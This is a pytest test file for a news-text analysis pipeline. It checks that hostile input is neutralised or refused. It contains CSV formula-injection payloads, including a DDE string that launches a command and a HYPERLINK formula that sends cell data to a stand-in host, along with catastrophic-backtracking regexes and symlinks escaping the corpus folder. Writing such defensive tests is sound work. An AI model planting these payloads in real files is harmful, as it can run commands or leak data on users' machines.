"""Bad input and hostile runs: spreadsheets, odd files, catastrophic patterns, languages,
output transactions. Each case gets a correct result or one named error."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pandas as pd
import pytest

import helpers
from helpers import paths
from helpers.cleaning import RulesError, load_rules, read_rules
from helpers.corpus import CorpusError, read_corpus
from helpers.engine.fingerprint import file_digest
from helpers.framing import (
    CodebookError,
    coding_sheet,
    compile_codebook,
    frame_matches,
    read_codebook,
)
from helpers.io import read_user_table, table_to_csv_text, write_table
from helpers.languages import detect_language, english_only, language_table, skipped_note
from helpers.sides import SidesError, read_sides, side_from_words
from helpers.tools import outputs, run

LANGUAGES = paths.PROJECT_ROOT / "tests" / "data" / "languages"


# spreadsheets ---------------------------------------------------------------------------
def test_formula_cells_are_neutralised_and_read_back_exactly(tmp_path):
    texts = ['=HYPERLINK("http://x.test/"&A1,"click")', "=1+1", "+33 1", "-5", "@SUM(A1)",
             "\tTAB", "\rCR", "'=already", "plain", "a = b", ""]
    table = pd.DataFrame({"outlet": texts, "n": range(len(texts)), "x": -0.5})
    plain = table_to_csv_text(table[table["outlet"] != "\rCR"])
    for line in plain.split("\n")[1:]:
        assert line[:1] not in {"=", "+", "-", "@", "\t", "\r"}, line
    assert "\n'=1+1,1,-0.5\n" in plain  # numbers stay numbers
    quoted = table_to_csv_text(table)  # a lone CR in a cell: every text cell quoted
    assert '\n"\'=1+1",1,' in quoted and '\n"\'\rCR",6,' in quoted
    path = write_table(table, tmp_path / "t.csv")
    back = read_user_table(path, ValueError)
    assert back["outlet"].tolist() == texts
    assert back["n"].tolist() == [str(i) for i in range(len(texts))]


def test_the_coding_sheet_is_safe_in_a_spreadsheet(tmp_path):
    hits = pd.DataFrame({"doc_id": ["=cmd|' /C calc'!A0", "b"], "start": [3, 9],
                         "left": ["@x ", "y "], "match": ["=1+1", "war"], "right": ["", ""],
                         "frame": ["conflict", "conflict"]})
    sheet = coding_sheet(hits)
    path = helpers.write_data(sheet, tmp_path / "coding_sheet.csv")
    body = path.read_text(encoding="utf-8").splitlines()[1:]
    assert all(not line.startswith(("=", "+", "-", "@")) for line in body)
    assert "'=cmd" in path.read_text(encoding="utf-8")
    assert read_user_table(path, ValueError)["doc_id"].tolist() == sheet["doc_id"].tolist()


def test_a_cr_only_audit_replays_from_its_csv_file(write_corpus, tmp_path):
    root = write_corpus({"a.txt": "First line.\rSecond line,\rwrapped here.\r\rNew para.\r"})
    corpus = helpers.load_corpus(root)
    clean, audit = helpers.clean_corpus(corpus, load_rules())
    assert "\r" in "".join(audit["original"])
    path = write_table(audit, tmp_path / "cleaning_audit.csv")
    back = read_user_table(path, ValueError).astype({"start": "int64", "end": "int64"})
    assert back["original"].tolist() == audit["original"].tolist()
    assert helpers.replay_audit(corpus["text"].iloc[0], back) == clean["text"].iloc[0]


# odd files ------------------------------------------------------------------------------
@pytest.fixture
def odd_folder(write_corpus, tmp_path):
    root = write_corpus({"good.txt": "A real article. It has words."})
    outside = tmp_path / "outside.txt"
    outside.write_text("A private text outside the corpus.", encoding="utf-8")
    (root / "out.txt").symlink_to(outside)
    (root / "dangling.txt").symlink_to(tmp_path / "nothing.txt")
    (root / "loop.txt").symlink_to(root / "loop.txt")
    (root / "inside.txt").symlink_to(root / "good.txt")
    (root / "dirlink").symlink_to(tmp_path)
    os.mkfifo(root / "x.txt")
    return root


def test_fifos_and_symlinks_leaving_the_folder_are_refused_by_name(odd_folder):
    started = time.perf_counter()
    load = read_corpus(odd_folder, on_error="skip")
    assert time.perf_counter() - started < 10  # the FIFO is never opened
    assert load.articles["doc_id"].tolist() == ["good", "inside"]
    problems = dict(zip(load.skipped["path"].map(lambda p: Path(p).name),
                        load.skipped["problem"], strict=True))
    assert "not a regular file" in problems["x.txt"]
    assert "leads out of the corpus folder" in problems["out.txt"]
    assert "leads out of the corpus folder" in problems["dirlink"]
    assert "broken symbolic link" in problems["dangling.txt"]
    assert "broken symbolic link" in problems["loop.txt"]
    assert "A private text" not in "".join(load.articles["text"])
    with pytest.raises(CorpusError, match=r"dangling\.txt: broken symbolic link"):
        read_corpus(odd_folder)


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads any file")
def test_an_unreadable_file_is_named(write_corpus):
    root = write_corpus({"a.txt": "Words here.", "b.txt": "More words."})
    (root / "b.txt").chmod(0)
    with pytest.raises(CorpusError, match=r"b\.txt: cannot be read"):
        read_corpus(root)
    assert read_corpus(root, on_error="skip").articles["doc_id"].tolist() == ["a"]


def test_a_non_utf8_checksum_file_and_ragged_metadata_are_named(write_corpus):
    root = write_corpus({"a.txt": "Words.", "SHA256SUMS": b"\xff\xfe junk"})
    with pytest.raises(CorpusError, match=r"SHA256SUMS: not valid UTF-8 at byte offset 0"):
        read_corpus(root)
    root = write_corpus({"a.txt": "Words.", "b.txt": "More.",
                         "metadata.csv": "doc_id,outlet\na,Daily\nb,Weekly,extra\n"},
                        name="ragged")
    with pytest.raises(CorpusError, match=r"metadata.csv: line 3 has 3 cells, the header "
                                          r"has 2"):
        read_corpus(root)


# catastrophic patterns ------------------------------------------------------------------
def test_a_catastrophic_user_rule_runs_in_linear_time(write_corpus):
    root = write_corpus({
        "a.txt": "a" * 30_000 + "!",
        "cleaning_rules.csv": "name,stage,pattern,replacement,description\n"
                              "nested,boilerplate,(a+)+$,,catastrophic for backtracking\n"})
    started = time.perf_counter()
    clean, _audit = helpers.clean_corpus(helpers.load_corpus(root), load_rules(root))
    assert time.perf_counter() - started < 10
    assert clean["text"].iloc[0] == "a" * 30_000 + "!"  # `$` is not reached: no match


@pytest.mark.parametrize(("pattern", "replacement", "message"), [
    (r"(money) \1", "", r"rule 'r'.*back-reference"),
    (r"(?<=x)y", "", r"rule 'r'.*look-ahead or look-behind"),
    (r"(a)b", r"\2", r"rule 'r'.*replacement '\\2' is refused"),
    (r"(?P<w>a)b", r"\g<v>", r"rule 'r'.*replacement"),
])
def test_user_rules_that_cannot_run_safely_are_refused_at_load(tmp_path, pattern, replacement,
                                                               message):
    path = tmp_path / "cleaning_rules.csv"
    pd.DataFrame({"name": ["r"], "stage": ["boilerplate"], "pattern": [pattern],
                  "replacement": [replacement], "description": ["d"]}).to_csv(path, index=False)
    with pytest.raises(RulesError, match=message):
        read_rules(path)


def test_a_valid_template_is_kept(tmp_path):
    path = tmp_path / "cleaning_rules.csv"
    pd.DataFrame({"name": ["r"], "stage": ["boilerplate"], "pattern": [r"(\d+) pct"],
                  "replacement": [r"\1 percent"], "description": ["d"]}).to_csv(path,
                                                                               index=False)
    rules = pd.concat([load_rules(), read_rules(path)], ignore_index=True)
    assert helpers.clean_text("Up 5 pct today.", rules)[0] == "Up 5 percent today."


def test_codebook_and_side_patterns_run_on_re2(tmp_path):
    book = tmp_path / "codebook.csv"
    book.write_text("frame,policy_frame,pattern,regex\nx,Economic,(a+)+$,true\n"
                    "x,Economic,money,false\n", encoding="utf-8")
    (frame, _policy, _patterns, regex, _anchors, starts), = compile_codebook(read_codebook(book))
    text = "a" * 50_000 + "b and money"
    started = time.perf_counter()
    hits = [(m.start(), m.group(), m.lastgroup) for m in frame_matches(regex, starts, text, "")]
    assert time.perf_counter() - started < 5
    assert hits == [(len(text) - 5, "money", "p1")]
    book.write_text("frame,policy_frame,pattern,regex\nx,Economic,(money) \\1,true\n",
                    encoding="utf-8")
    with pytest.raises(CodebookError, match=r"codebook.csv: line 2: pattern '\(money\) \\1' "
                                            r"refused: it uses a back-reference"):
        read_codebook(book)
    sides = tmp_path / "sides.csv"
    sides.write_text("side,colour,cues\nA,,(x+)+y\nB,,(?=b)\n", encoding="utf-8")
    with pytest.raises(SidesError, match=r"line 3 \(cues of side 'B'\).*look-ahead"):
        read_sides(sides)
    sides.write_text("side,colour,cues\nA,,(x+)+y\nB,,\\bbee\\b\n", encoding="utf-8")
    table = read_sides(sides)
    started = time.perf_counter()
    assert side_from_words("x" * 50_000, table) == "unknown"
    assert side_from_words("a Bee keeper", table) == "B"
    assert time.perf_counter() - started < 5


def test_one_huge_article_is_analysed_up_to_the_limit(write_corpus):
    from helpers.cleaning import MAX_CHARS

    text = ("Officials met on Friday. \"We will not sign,\" said Ana Ruiz.\n\n" * 40_000)
    root = write_corpus({"big.txt": text})
    corpus = helpers.load_corpus(root)
    started = time.perf_counter()
    clean, audit = helpers.clean_corpus(corpus, load_rules())
    assert time.perf_counter() - started < 60
    assert len(clean["text"].iloc[0]) <= MAX_CHARS
    cut = audit[audit["rule"] == "length_limit"]
    assert cut["start"].tolist() == [MAX_CHARS] and cut["end"].tolist() == [len(text)]
    assert helpers.replay_audit(text, audit) == clean["text"].iloc[0]


# languages ------------------------------------------------------------------------------
def test_languages_are_detected_and_short_texts_are_undetermined():
    found = {p.stem: detect_language(p.read_text(encoding="utf-8"))[0]
             for p in sorted(LANGUAGES.glob("*.txt"))}
    assert found == {"ar": "ar", "ru": "ru", "zh": "zh", "quote_only": "en",
                     "headline_only": "und", "boilerplate_only": "und"}
    for seed in sorted(paths.SEEDS.glob("*.txt")):
        assert detect_language(seed.read_text(encoding="utf-8"))[0] == "en", seed


def test_english_only_stages_read_english_and_undetermined_articles(write_corpus):
    files = {p.name: p.read_text(encoding="utf-8") for p in LANGUAGES.glob("*.txt")}
    root = write_corpus(files)
    clean, _audit = helpers.clean_corpus(helpers.load_corpus(root), load_rules())
    table = language_table(clean)
    analysed = english_only(clean, table)["doc_id"].tolist()
    assert analysed == ["boilerplate_only", "headline_only", "quote_only"]
    assert clean["text"][clean["doc_id"] == "boilerplate_only"].iloc[0] == ""
    note = skipped_note(table, "VADER")
    assert note.startswith("3 of 6 articles are not in English ('ar': 1, 'ru': 1, 'zh': 1)"
                           .replace("'ar': 1, 'ru': 1, 'zh': 1", "1 in 'ar', 1 in 'ru', "
                                                                  "1 in 'zh'"))


def test_every_stage_completes_on_a_mixed_language_corpus(write_corpus, tmp_path):
    files = {p.name: p.read_text(encoding="utf-8") for p in LANGUAGES.glob("*.txt")}
    files |= {p.name: p.read_text(encoding="utf-8") for p in paths.SEEDS.glob("*.txt")}
    files["actors.csv"] = (paths.SEEDS / "actors.csv").read_text(encoding="utf-8")
    files["sentiment_lexicon.csv"] = (paths.SEEDS / "sentiment_lexicon.csv").read_text(
        encoding="utf-8")
    run = helpers.open_corpus(write_corpus(files), store=tmp_path / "artefacts")
    run.ensure()
    languages = run.languages.set_index("doc_id")
    assert languages.loc["ru", "english_stages"] == "skipped (not English)"
    assert not run.quotes["doc_id"].isin(["ru", "zh", "ar"]).any()
    assert not run.frames["doc_id"].isin(["ru", "zh", "ar"]).any()
    assert set(run.frames["doc_id"]) >= {"quote_only", "headline_only", "boilerplate_only"}
    variants = run.sentiment_variants.set_index(["variant", "outlet"])
    # the quote-only article has no narration: no score there, and no crash
    assert pd.isna(variants.loc[("quotes excluded", "quote_only"), "rank"])
    assert run.quotes[run.quotes["doc_id"] == "quote_only"]["quote"].tolist() == [
        "We will not sign this deal."]


# output folders -------------------------------------------------------------------------
def test_impossible_targets_are_refused_before_any_work(tmp_path, monkeypatch):
    a_file = tmp_path / "file"
    a_file.write_text("x")
    with pytest.raises(outputs.OutputError, match="exists and is not a folder"):
        outputs.check_target(a_file)
    with pytest.raises(outputs.OutputError, match="cannot be created"):
        outputs.check_target(a_file / "figures")
    for folder in (paths.PROJECT_ROOT, paths.NOTEBOOKS, paths.SEEDS):
        with pytest.raises(outputs.OutputError, match="would replace"):
            outputs.check_target(folder)
    with pytest.raises(outputs.OutputError, match="inside the corpus folder"):
        outputs.check_target(paths.SEEDS / "figures", paths.SEEDS)
    mine = tmp_path / "mine"
    (mine / "data").mkdir(parents=True)
    (mine / "notes.txt").write_text("mine")
    with pytest.raises(outputs.OutputError, match="which no run wrote"):
        outputs.check_target(mine)
    (mine / "notes.txt").unlink()
    read_only = str(mine / "data")
    real = os.access
    monkeypatch.setattr(os, "access", lambda p, m: str(p) != read_only and real(p, m))
    with pytest.raises(outputs.OutputError, match=r"data is not writable"):
        outputs.check_target(mine)
    assert not (tmp_path / "file" / "figures").exists()


def test_a_second_run_into_a_locked_folder_is_refused(tmp_path, capsys):
    target = tmp_path / "figures"
    with outputs.OutputLock(target, "seeds"):
        code = run.main(["--figures", str(target), "--build",
                                       str(tmp_path / "executed"), "01"])
    assert code == 2
    err = capsys.readouterr().err
    assert f"pid {os.getpid()}" in err and "another run is writing into it" in err
    assert not target.exists()


def test_replacing_a_folder_swaps_it_whole(tmp_path):
    target = tmp_path / "out"
    (target / "data").mkdir(parents=True)
    (target / "old.svg").write_text("old")
    staged = tmp_path / "new"
    (staged / "data").mkdir(parents=True)
    (staged / "new.svg").write_text("new")
    outputs.replace_folder(staged, target)
    assert sorted(p.name for p in target.iterdir()) == ["data", "new.svg"]
    assert not staged.exists()


def test_a_failed_load_creates_nothing(write_corpus, tmp_path, capfd):
    root = write_corpus({"a.txt": "Words.", "b.txt": b"\xff\xfe not utf-8"})
    target = tmp_path / "figures"
    code = run.main(["--corpus", str(root), "--figures", str(target),
                                   "--build", str(tmp_path / "executed")])
    assert code != 0
    assert "b.txt: not valid UTF-8" in capfd.readouterr().err  # the stage process's line
    assert not target.exists() and not (tmp_path / "executed").exists()
    assert not list(tmp_path.glob(".figures.*")) and not list(tmp_path.glob(".executed.*"))


def test_the_report_refuses_notebooks_of_two_runs(tmp_path):
    from helpers.tools.report import MixedRunError, check_one_run

    executed = tmp_path / "executed"
    executed.mkdir()
    with pytest.raises(MixedRunError, match="no run.json"):
        check_one_run(executed)
    (executed / "01_loading.ipynb").write_text("{}")
    sha = file_digest(executed / "01_loading.ipynb")
    (executed / "run.json").write_text(
        '{"corpus": {"folder": "seeds", "digest": "d"}, "notebooks": {"01_loading.ipynb": "'
        + sha + '"}}')
    assert check_one_run(executed)["corpus"]["folder"] == "seeds"
    (executed / "02_cleaning.ipynb").write_text("{}")  # left by a run on another corpus
    with pytest.raises(MixedRunError, match="02_cleaning.ipynb: not from the run"):
        check_one_run(executed)


def test_a_failing_notebook_is_one_line_naming_it():
    from helpers.tools.run import describe_failure

    class PapermillError(Exception):
        ename, evalue, exec_count = "ActorsError", "actors.csv: line 4: side 'X' unknown", 7

    line = describe_failure(Path("05_voices.ipynb"), PapermillError("long traceback\n..."),
                            Path("/nonexistent/05_voices.ipynb"))
    assert line == ("notebook 05_voices failed: ActorsError: actors.csv: line 4: side 'X' "
                    "unknown (cell 7)")


def test_thousands_of_overlapping_edits_clean_in_linear_time(write_corpus):
    text = "—" * 100_000  # every dash respaced, then every double space met again
    root = write_corpus({"dashes.txt": text})
    corpus = helpers.load_corpus(root)
    started = time.perf_counter()
    clean, audit = helpers.clean_corpus(corpus, load_rules())
    assert time.perf_counter() - started < 30
    assert set(clean["text"].iloc[0].split()) == {"—"}
    assert helpers.replay_audit(text, audit) == clean["text"].iloc[0]


def test_the_language_model_is_dropped_between_stages():
    from helpers.engine.compute import drop_caches
    from helpers.languages import _identifier

    detect_language("A sentence in English, long enough to be told apart.")
    assert _identifier.cache_info().currsize == 1
    drop_caches()
    assert _identifier.cache_info().currsize == 0
